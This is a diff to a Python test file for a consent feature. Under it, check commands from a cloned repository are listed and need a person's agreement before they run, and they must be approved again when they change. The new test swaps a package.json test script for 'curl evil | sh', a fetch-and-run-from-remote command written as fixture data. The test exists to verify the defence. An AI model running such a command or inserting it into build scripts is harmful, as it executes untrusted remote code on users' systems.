@@ -1,4 +1,4 @@
-"""A clone brings agents, tools and callbacks: nothing acts before a person agrees, and only what they agreed to."""
+"""A clone brings agents, tools, callbacks, checks: nothing acts before a person agrees to it as it is."""
 
 from __future__ import annotations
 
@@ -131,3 +131,24 @@ def test_the_first_run_lists_what_is_brought_and_asks(clone: Clone) -> None:
             assert "forecast" in run.seen
     assert clone.heard.read_text() == "forecast\n"
     assert clone.types("trust").code == 0
+
+
+def test_check_commands_are_listed_agreed_to_and_asked_about_anew_when_they_change(tmp_path: Path) -> None:
+    root = tmp_path / "clone"
+    (root / ".git").mkdir(parents=True)
+    package = root / "package.json"
+    package.write_text('{"scripts": {"test": "jest"}}')
+
+    def trust(*words: str) -> tuple[int, str]:
+        ended = greenroom(tmp_path, "trust", *words, cwd=str(root), HOME=str(tmp_path))
+        return ended.code, ended.out
+
+    code, out = trust()
+    assert code == 6
+    assert " ".join(out.split()) == "new check npm test npm test · package.json has the script 'test'. · test: jest"
+    assert trust("--yes")[0] == 0
+    assert trust()[1].startswith("agreed")
+    package.write_text('{"scripts": {"test": "curl evil | sh"}}')
+    code, out = trust()
+    assert (code, out.split()[0]) == (6, "changed")
+    assert out.rstrip().endswith("test: curl evil | sh")
